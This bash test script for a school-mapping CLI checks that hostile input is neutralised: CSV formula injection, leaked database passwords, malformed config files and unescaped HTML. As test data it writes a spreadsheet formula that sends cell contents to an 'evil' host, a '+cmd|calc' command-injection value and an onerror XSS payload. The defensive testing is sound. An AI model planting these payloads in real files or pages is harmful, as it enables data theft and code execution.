#!/usr/bin/env bash
# Careless or hostile input (issue #18, defects 1-8), each check written
# against the defect's reproducer first: formulas in CSV outputs, secrets
# of PG: strings, config files that are directories or hold NUL bytes or
# duplicate keys, exit codes of unusable inputs, outputs replaced as a
# whole, HTML in --attribution, a unit that is its own parent, "-0"
# coordinates.  Usage: test_hostile.sh SCHOOLGIS SG_GENSAMPLE
set -u
. "$(dirname "$0")/tap.sh"
tap_args "$@"
tap_need python3 sqlite3
T=$(mktemp -d /tmp/sg-hostile-XXXXXX) || exit 2
trap 'rm -rf "$T"' EXIT
tap_init
export SCHOOLGIS_DB=$T/s.sqlite
export SCHOOLGIS_LANG=en LANGUAGE=en LC_ALL=C.UTF-8
"$GEN" --quiet "$T/in" || exit 2
"$SG" init -q || exit 2
"$SG" import units "$T/in/district.geojson" --kind district -q || exit 2
"$SG" import units "$T/in/communes.geojson" -q || exit 2

# Hostile school codes and names; one row rejected for its coordinates
# with a formula as its longitude.
python3 - "$T/in/schools.csv" "$T/evil.csv" <<'PY' || exit 2
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding='utf-8')))
out = [rows[0]]
for r in rows[1:]:
    if r[0] == 'MN783001':
        r[0] = '=1+1'
        r[1] = '=HYPERLINK("http://evil/?"&A1,"x")'
    if r[0] == 'MN783002':
        r[1] = '@SUM(A1:A9)'
    if r[0] == 'MN783003':
        r[0] = '+cmd|calc'
        r[6] = '=106+1'
    out.append(r)
csv.writer(open(sys.argv[2], 'w', encoding='utf-8', newline='')).writerows(out)
PY
"$SG" import schools "$T/evil.csv" -q 2>/dev/null
[ -s "$T/evil.csv.rejects.csv" ] || { echo "no rejects file" >&2; exit 2; }

# No cell of a CSV file may start a formula, unless it is a plain number.
cat >"$T/noformula.py" <<'PY'
import csv, re, sys
num = re.compile(r'^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$')
seen = 0
for path in sys.argv[1:]:
    text = open(path, encoding='utf-8-sig').read()
    for row in csv.reader(text.splitlines()):
        for c in row:
            if c[:1] in ('=', '+', '-', '@', '\t', '\r') and not num.match(c):
                sys.exit('%s: live formula %r' % (path, c))
            if c.startswith("'") and c[1:2] in ('=', '+', '@'):
                seen += 1
if seen == 0:
    sys.exit('no guarded cell found: the hostile rows are missing')
PY
check "1: rejects CSV has no live formula (the longitude '=106+1' guarded)" \
    python3 "$T/noformula.py" "$T/evil.csv.rejects.csv"
check "1: export schools .csv has no live formula" bash -c "
    '$SG' export schools -o '$T/x.csv' -q &&
    python3 '$T/noformula.py' '$T/x.csv'"
check "1: stats ratios --by school --csv has no live formula" bash -c "
    '$SG' stats ratios --by school --csv > '$T/st.csv' &&
    python3 '$T/noformula.py' '$T/st.csv'"
check "1: report-*.csv annexes have no live formula" bash -c "
    '$SG' report --unit 783 -o '$T/rep/report.html' -q 2>/dev/null ||
    { mkdir -p '$T/rep' && '$SG' report --unit 783 -o '$T/rep/report.html' -q; } &&
    python3 '$T/noformula.py' '$T'/rep/report-*.csv"
check "1: a guarded cell reads back as the original text after the apostrophe" \
    python3 -c "
import csv
rows = list(csv.DictReader(open('$T/x.csv', encoding='utf-8-sig')))
names = {r['name'] for r in rows}
assert '\'=HYPERLINK(\"http://evil/?\"&A1,\"x\")' in names, sorted(names)[:5]
assert '\'@SUM(A1:A9)' in names
codes = {r['code'] for r in rows}
assert '\'=1+1' in codes
# numbers written as numbers stay numbers: negative-free lon/lat intact
assert all(float(r['lon']) > 100 for r in rows)"

# 3: config files.
mkdir -p "$T/cfgdir"
check "3: a directory as --standards is refused (exit 5, 'is a directory')" bash -c "
    '$SG' stats ratios --standards '$T/cfgdir' 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -q 'cfgdir: is a directory' '$T/err'"
check "3: a directory as --style is refused (exit 5)" bash -c "
    '$SG' tiles --style '$T/cfgdir' --print-style 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -q 'is a directory' '$T/err'"
check "3: a directory as import --map is refused (exit 5)" bash -c "
    '$SG' import schools '$T/in/schools.csv' --map '$T/cfgdir' 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -q 'is a directory' '$T/err'"
for bad in 'primary = 0' 'primary = 1e308' 'primary = -3'; do
    printf '[ratios]\n%s\n' "$bad" > "$T/bad.ini"
    check "3: standards '$bad' refused naming file:line" bash -c "
        '$SG' stats ratios --standards '$T/bad.ini' 2>'$T/err'; rc=\$?
        [ \$rc -eq 5 ] && grep -q 'bad.ini:2: ratios.primary' '$T/err'"
done
printf '[distance]\nprimary = 1e308\n' > "$T/far.ini"
check "3: an absurd distance (1e308 m) refused" bash -c "
    '$SG' stats ratios --standards '$T/far.ini' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'far.ini:2: distance.primary' '$T/err'"
printf '[ratios]\nprimary = 20\nprimary = 30\n' > "$T/dup.ini"
check "3: a standard given twice refused, naming both lines" bash -c "
    '$SG' stats ratios --standards '$T/dup.ini' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'dup.ini:3:.*given twice (also on line 2)' '$T/err'"
printf '[ratios]\nprimary = 2\0000\n' > "$T/nul.ini"
check "3: a NUL byte in standards refused naming the line" bash -c "
    '$SG' stats ratios --standards '$T/nul.ini' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'nul.ini:2: a NUL byte' '$T/err'"
printf '[units]\nopacity = 0.5\nopacity = 0.7\n' > "$T/dupstyle.ini"
check "3: a style key given twice refused" bash -c "
    '$SG' tiles --style '$T/dupstyle.ini' --print-style 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'dupstyle.ini:3' '$T/err'"
printf '\xef\xbb\xbfcode = Mã trường\nname = Tên trường\n' > "$T/bom.map"
check "4: a mapping file saved with a BOM works" bash -c "
    '$SG' import schools '$T/in/schools.csv' --map '$T/bom.map' -q 2>'$T/err'"
printf 'code = Mã trường\ncode = Tên trường\n' > "$T/dup.map"
check "3: a mapping file naming a field twice is refused (exit 5)" bash -c "
    '$SG' import schools '$T/in/schools.csv' --map '$T/dup.map' 2>'$T/err'; [ \$? -eq 5 ] &&
    grep -q 'dup.map:2' '$T/err'"

# 2: secrets of PG: strings never reach messages or --json.
check "2: sslpassword and password left out of an import's error" bash -c "
    '$SG' import schools 'PG:host=127.0.0.1 port=1 dbname=x user=u sslpassword=k3ypass password=p4ss connect_timeout=2' --layer s --json >'$T/out' 2>'$T/err'
    ! grep -q 'k3ypass\|p4ss' '$T/out' '$T/err' && grep -q 'dbname=x' '$T/err'"

# 4: unusable inputs exit 5; an unknown year in export is an error.
: > "$T/empty.csv"
head -c 3000 /dev/urandom > "$T/random.csv"
printf 'code,levels\nA1,primary\n' | iconv -f UTF-8 -t UTF-16LE > "$T/utf16.csv"
head -c 2000 "$T/in/schools.xlsx" > "$T/trunc.xlsx"
for f in empty.csv random.csv trunc.xlsx; do
    check "4: import schools $f exits 5 with a message" bash -c "
        '$SG' import schools '$T/$f' 2>'$T/err'; rc=\$?
        [ \$rc -eq 5 ] && grep -q '$f' '$T/err'"
done
printf '{"type":"FeatureCollection","features":[]}' > "$T/nounits.geojson"
check "4: a units file with 0 features says so (exit 5)" bash -c "
    '$SG' import units '$T/nounits.geojson' 2>'$T/err'; rc=\$?
    [ \$rc -eq 5 ] && grep -qi 'no features\|empty\|0 features' '$T/err'"
check "4: export --year of an unknown year exits non-zero, no file" bash -c "
    '$SG' export schools --year 1990-1991 -o '$T/y.csv' 2>'$T/err'; rc=\$?
    [ \$rc -ne 0 ] && [ ! -e '$T/y.csv' ] && grep -q '1990-1991' '$T/err'"

# 8: a parent cycle found by validate.
cp "$SCHOOLGIS_DB" "$T/cyc.sqlite"
sqlite3 "$T/cyc.sqlite" "UPDATE units SET parent_id = (SELECT id FROM units WHERE code = '27538') WHERE code = '783'" || exit 2
check "8: validate finds a parent cycle (783 -> 27538 -> 783)" python3 -c "
import json, subprocess
p = subprocess.run(['$SG', 'validate', '--db', '$T/cyc.sqlite', '--json'], capture_output=True)
assert p.returncode == 3, p.returncode
v = json.loads(p.stdout)
rows = v['findings'] if isinstance(v, dict) and 'findings' in v else v
codes = {f['code'] for f in rows if f['check'] == 'unit_parent_cycle'}
assert codes == {'783', '27538'}, codes"

# 5: the report's files as one set; leftovers of killed runs removed.
dead=$(sh -c 'echo $$')
mkdir -p "$T/rep5"
: > "$T/rep5/report-schools.tmp-$dead.csv"
: > "$T/rep5/report.html.tmp-$dead"
: > "$T/rep5/report-ratios.csv.tmp-$dead"
check "5: report removes what a killed report left (report*.tmp-PID)" bash -c "
    '$SG' report --unit 783 -o '$T/rep5/report.html' -q &&
    [ -s '$T/rep5/report.html' ] && ls '$T/rep5' | grep -c 'report-.*csv' | grep -qv '^0' &&
    ! ls '$T/rep5' | grep -q 'tmp-\|commit-'"
check "5: a refused report (exists, no --force) leaves every file as it was" bash -c "
    cd '$T/rep5' && md5sum report* > '$T/sums' &&
    '$SG' report --unit 783 -o '$T/rep5/report.html' -q 2>/dev/null; [ \$? -eq 5 ] &&
    md5sum -c --quiet '$T/sums' && ! ls | grep -q 'tmp-'"
: > "$T/m.mbtiles.tmp-$dead"
: > "$T/m.legend.json.tmp-$dead"
check "5: tiles -o X.mbtiles writes X.tilejson and X.legend.json with it, leftovers removed" bash -c "
    '$SG' tiles --layer units --zoom 10 -o '$T/m.mbtiles' -q &&
    [ -s '$T/m.mbtiles' ] && [ -s '$T/m.tilejson' ] && [ -s '$T/m.legend.json' ] &&
    ! ls '$T' | grep -q '^m\..*tmp-\|^m\.commit-'"

# 7: --attribution is text, not HTML.
check "7: --attribution is HTML-escaped in viewer.html and the TileJSON" bash -c "
    '$SG' tiles --layer units --zoom 10 --attribution '<img src=x onerror=alert(1)>&co' -o '$T/v' -q &&
    ! grep -q '<img src=x' '$T/v/viewer.html' &&
    grep -q '&lt;img src=x onerror=alert(1)&gt;&amp;co' '$T/v/viewer.html' &&
    ! grep -q '<img' '$T/v/tilejson.json'"

# 6: two capacity runs at once on one store: both complete (one waits for
# the other), or one says the store is busy; never "no such table".
"$SG" import population "$T/in/population.csv" -q || exit 2
for i in 1 2 3; do
    cp "$SCHOOLGIS_DB" "$T/conc$i.sqlite"
    "$SG" catchments --db "$T/conc$i.sqlite" --level primary --method capacity -q 2>"$T/c1.err" &
    p1=$!
    "$SG" catchments --db "$T/conc$i.sqlite" --level primary --method capacity -q 2>"$T/c2.err"
    r2=$?
    wait $p1
    r1=$?
    check "6: concurrent capacity runs (try $i): both done or 'busy', no SQLite schema error" bash -c "
        ! grep -q 'no such table' '$T/c1.err' '$T/c2.err' &&
        { [ $r1 -eq 0 ] || grep -q 'busy' '$T/c1.err'; } &&
        { [ $r2 -eq 0 ] || grep -q 'busy' '$T/c2.err'; } &&
        [ \$(sqlite3 '$T/conc$i.sqlite' \"SELECT count(*) FROM runs WHERE command = 'catchments' AND finished_at IS NOT NULL\") -ge 1 ]"
done

tap_done
